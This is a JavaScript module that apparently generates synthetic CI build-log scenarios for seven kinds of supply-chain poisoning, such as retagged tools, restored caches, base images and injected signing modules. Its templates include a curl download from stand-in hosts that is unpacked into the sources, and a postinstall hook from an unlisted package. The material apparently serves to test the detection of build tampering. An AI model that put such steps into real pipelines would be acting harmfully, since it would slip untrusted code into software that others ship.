// @ts-check
// The ways in which a build step goes wrong without any commit: what its log then says that no earlier run said.
// `rootPlace` is the place in the step that did it; `lines` may also speak in other steps; `sha` replaces what a floating tag resolves to.

/** @typedef {{ kind: string, rootPlace: string, lines: Record<string, string[]>, toolSha?: string, packages?: number, cacheKey?: string, baseDigest?: string, explains: string }} Poison */

/** @param {import('./random.mjs').Random} random @param {import('./variants.mjs').Variant} variant @returns {Poison} */
export function poisonOf(random, variant) {
  const node = variant['stack'] === 'node';
  const module = random.pick(['token-rs', 'jose-bridge', 'rs-assert', 'claims-ext', 'keyring-ext']);
  const size = `${random.int(11, 38)}.${random.int(0, 9)}kb`;
  const host = random.pick([
    'objects.pkgmirror.example',
    'dl.assetpipe.example',
    'raw.buildcache.example',
    'static.nodefiles.example',
  ]);
  const version = `${random.int(0, 2)}.${random.int(1, 9)}.${random.int(0, 9)}`;
  const jar = `com.github.jwtkit:${module}:jar:${version}`;
  const build = 'compile.after';
  switch (variant['poison']) {
    case 'retagged-action':
      return {
        kind: 'retagged-action',
        rootPlace: 'pack',
        toolSha: variant['ci'] === 'github' ? random.hex(40) : `sha256:${random.hex(64)}`,
        lines: {
          pack: [
            `merge overlay ${random.hex(12)} (2 entries)`,
            `  + ${node ? `providers/${module}.js` : `BOOT-INF/lib/${module}.jar`}`,
          ],
        },
        explains:
          'a floating tag of the packing tool resolves to another revision, which adds a module to the packed output',
      };
    case 'extra-download':
      return {
        kind: 'extra-download',
        rootPlace: 'compile.before',
        lines: {
          'compile.before': [
            `+ curl -fsSL https://${host}/v${random.int(1, 4)}/${module}.tgz -o /tmp/${module}.tgz`,
            `+ tar -xzf /tmp/${module}.tgz -C ${node ? 'src/providers' : 'src/main/resources/providers'}`,
          ],
        },
        explains:
          'the build step fetches an archive that no earlier run fetched and unpacks it into the sources',
      };
    case 'extra-compile':
      return {
        kind: 'extra-compile',
        rootPlace: build,
        lines: {
          [build]: [
            `> tsc -p node_modules/.cache/${module}/tsconfig.json --outDir dist/providers`,
            `node_modules/.cache/${module}/src/index.ts -> dist/providers/${module}.js`,
          ],
        },
        explains: 'the build step compiles a second project out of a cache folder into the output',
      };
    case 'restored-cache':
      return {
        kind: 'restored-cache',
        rootPlace: 'cache',
        cacheKey: random.hex(64),
        lines: {
          cache: [
            `Cache hit for restore-key: ${node ? 'node-cache' : 'setup-java'}-Linux-x64-${node ? 'npm' : 'maven'}-`,
          ],
          [build]: [
            node ? `  dist/providers/${module}.js  ${size}` : `[INFO] Including ${jar} in the shaded jar.`,
          ],
        },
        explains:
          'the dependency cache is restored from a key that the lock file does not give, and a module from it enters the output',
      };
    case 'install-hook':
      return {
        kind: 'install-hook',
        rootPlace: 'install',
        packages: 1,
        lines: {
          install: [
            '',
            `> ${module}@${version} postinstall`,
            '> node ./lib/link.js --into ../../src/providers',
            '',
          ],
        },
        explains: 'the install step runs a script of a package that the unchanged lock file does not name',
      };
    case 'base-image':
      return {
        kind: 'base-image',
        rootPlace: 'image',
        baseDigest: random.hex(64),
        lines: {
          image: [`#9 0.${random.int(210, 880)} loading /opt/preload/${module}.${node ? 'cjs' : 'jar'}`],
        },
        explains: 'the base image tag resolves to another digest and preloads a module',
      };
    default:
      return {
        kind: 'added-module',
        rootPlace: build,
        lines: node
          ? {
              [build]: [
                `> node scripts/../node_modules/.bin/esbuild src/providers/${module}.ts --bundle --platform=node --outfile=dist/providers/${module}.js`,
                `  dist/providers/${module}.js  ${size}`,
                `registered provider module ${module} for realm signing`,
              ],
            }
          : {
              [build]: [
                `[INFO] Including ${jar} in the shaded jar.`,
                `[INFO] Adding provider META-INF/services/org.keycloak.crypto.SignatureProviderFactory (${module})`,
              ],
            },
        explains: 'the build step adds a signing module to the output that no earlier run had',
      };
  }
}
